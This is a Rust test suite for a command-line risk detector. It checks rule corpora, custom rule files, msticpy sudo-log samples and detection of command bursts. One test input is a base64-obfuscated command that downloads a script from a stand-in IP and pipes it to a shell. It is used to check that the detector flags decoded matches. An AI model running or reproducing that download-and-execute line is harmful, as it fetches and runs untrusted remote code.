//! Risky command lines: the built-in rule corpus, user rule files, and msticpy's sudo samples.

mod common;

use sectools::polars::prelude::*;
use sectools::{CmdRules, MatchedIn};

#[derive(serde::Deserialize)]
struct Cases {
    case: Vec<Case>,
}

#[derive(serde::Deserialize)]
struct Case {
    input: String,
    rules: Vec<String>,
    log_type: Option<String>,
}

#[test]
fn builtin_rule_corpus() {
    let cases: Cases =
        toml::from_str(&common::read_fixture("cases/cmd_line.toml")).expect("cases parse");
    let rules = CmdRules::builtin();
    let mut failures = Vec::new();
    for case in &cases.case {
        let mut got: Vec<String> = rules
            .check(&case.input, case.log_type.as_deref())
            .iter()
            .map(|h| h.rule.name.clone())
            .collect();
        got.sort();
        let mut want = case.rules.clone();
        want.sort();
        if got != want {
            failures.push(format!("{:?}: want {want:?}, got {got:?}", case.input));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // Every built-in rule is exercised by at least one case.
    for rule in rules.rules() {
        assert!(
            cases.case.iter().any(|c| c.rules.contains(&rule.name)),
            "no case for rule {}",
            rule.name
        );
        assert!(
            !rule.description.is_empty() && rule.mitre.is_some(),
            "{} is documented",
            rule.name
        );
    }
}

#[test]
fn decoded_matches_are_marked() {
    let rules = CmdRules::builtin();
    let hits = rules.check(
        "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveC5zaCB8IGJhc2g= | base64 -d | sh",
        None,
    );
    let decoded = hits
        .iter()
        .find(|h| h.rule.name == "download-piped-to-shell")
        .expect("decoded hit");
    assert_eq!(decoded.matched_in, MatchedIn::Decoded);
}

#[test]
fn user_rule_files() {
    let Some(path) = common::corpus_file("msticpy-testdata/risky_stuff_custom.json") else {
        return;
    };
    let custom = CmdRules::load(&path).expect("msticpy's shape loads");
    assert_eq!(custom.rules().len(), 3);
    let rules = CmdRules::builtin().with(custom);
    assert!(
        rules
            .check("apt-get install x", Some("Syslog"))
            .iter()
            .any(|h| h.rule.name == "Syslog-2")
    );
}

#[test]
fn bad_rule_files_name_the_problem() {
    let err = CmdRules::from_json(
        "{\"rules\": [{\"name\": \"x\", \"pattern\": \"(\", \"description\": \"d\"}]}",
        "mine.json",
    )
    .expect_err("bad regex");
    assert!(
        err.to_string()
            .starts_with("rule file mine.json: rule 'x': invalid pattern"),
        "{err}"
    );
    let err = CmdRules::from_json("{\"Syslog\": \"not a list\"}", "m.json").expect_err("bad shape");
    assert!(
        err.to_string().contains("'Syslog' should be a list"),
        "{err}"
    );
    let err = CmdRules::from_json("not json", "m.json").expect_err("not json");
    assert!(err.to_string().starts_with("rule file m.json:"), "{err}");
    let err = CmdRules::load("/nonexistent/rules.json").expect_err("missing");
    assert!(err.to_string().contains("/nonexistent/rules.json"), "{err}");
}

/// msticpy: risky_cmd_line(sudo_data.csv) maps "2019-07-05T18:19:52.873Z" to "/bin/bash".
#[test]
fn msticpy_sudo_data() {
    let Some(path) = common::corpus_file("msticpy-testdata/sudo_data.csv") else {
        return;
    };
    let df = common::read_csv_as_text(&path);
    let risky = CmdRules::builtin()
        .risky_cmd_line(&df, "Command", Some("Syslog"))
        .expect("risky");
    let times = risky
        .column("TimeGenerated")
        .expect("time")
        .str()
        .expect("str")
        .clone();
    let commands = risky
        .column("Command")
        .expect("cmd")
        .str()
        .expect("str")
        .clone();
    let pairs: Vec<(Option<&str>, Option<&str>)> = times.iter().zip(commands.iter()).collect();
    assert!(
        pairs.contains(&(Some("2019-07-05T18:19:52.873Z"), Some("/bin/bash"))),
        "{pairs:?}"
    );
    assert!(risky.column("Rule").is_ok() && risky.column("Mitre").is_ok());
}

/// msticpy's test asserts cmd_speed(sudo_data_speed.csv) finds a burst with its defaults
/// (10 commands in 10 s). It does so only because it compares rows in file order, where
/// times go backwards and negative gaps count as fast. With times sorted there is no such
/// burst; the real one is 6 commands in 2 s at 18:04:09–18:04:11, which huntrs finds.
#[test]
fn msticpy_sudo_speed() {
    let Some(path) = common::corpus_file("msticpy-testdata/sudo_data_speed.csv") else {
        return;
    };
    let df = common::read_csv_as_text(&path);
    let ten = sectools::cmd_speed(
        &df,
        "Command",
        "TimeGenerated",
        chrono::Duration::seconds(10),
        10,
    )
    .expect("speed");
    assert_eq!(
        ten.height(),
        0,
        "deliberate difference from msticpy, see above"
    );
    let bursts = sectools::cmd_speed(
        &df,
        "Command",
        "TimeGenerated",
        chrono::Duration::seconds(10),
        5,
    )
    .expect("speed");
    assert_eq!(bursts.height(), 1);
    assert_eq!(
        bursts
            .column("Events")
            .expect("events")
            .u32()
            .expect("u32")
            .get(0),
        Some(6)
    );
    let commands = bursts
        .column("Commands")
        .expect("cmds")
        .str()
        .expect("str")
        .get(0)
        .expect("text")
        .to_string();
    assert!(
        commands.contains("/usr/bin/crontab -l") && commands.contains("/bin/bash"),
        "{commands}"
    );
}

#[test]
fn cmd_speed_merges_overlapping_windows() {
    let times = [
        "2024-01-01T00:00:00Z",
        "2024-01-01T00:00:01Z",
        "2024-01-01T00:00:02Z",
        "2024-01-01T00:00:03Z",
        "2024-01-01T01:00:00Z",
    ];
    let df = DataFrame::new_infer_height(vec![
        Column::new("TimeGenerated".into(), times),
        Column::new("Command".into(), ["a", "b", "c", "d", "e"]),
    ])
    .expect("frame");
    let bursts = sectools::cmd_speed(
        &df,
        "Command",
        "TimeGenerated",
        chrono::Duration::seconds(2),
        3,
    )
    .expect("speed");
    assert_eq!(bursts.height(), 1);
    assert_eq!(
        bursts
            .column("Events")
            .expect("col")
            .u32()
            .expect("u32")
            .get(0),
        Some(4)
    );
    assert_eq!(
        bursts
            .column("Commands")
            .expect("col")
            .str()
            .expect("str")
            .get(0),
        Some("a\nb\nc\nd")
    );
    let bad = DataFrame::new_infer_height(vec![
        Column::new("TimeGenerated".into(), ["yesterday"]),
        Column::new("Command".into(), ["a"]),
    ])
    .expect("frame");
    let err = sectools::cmd_speed(
        &bad,
        "Command",
        "TimeGenerated",
        chrono::Duration::seconds(2),
        1,
    )
    .expect_err("bad time");
    assert!(
        err.to_string().contains("'yesterday' is not a date-time"),
        "{err}"
    );
}
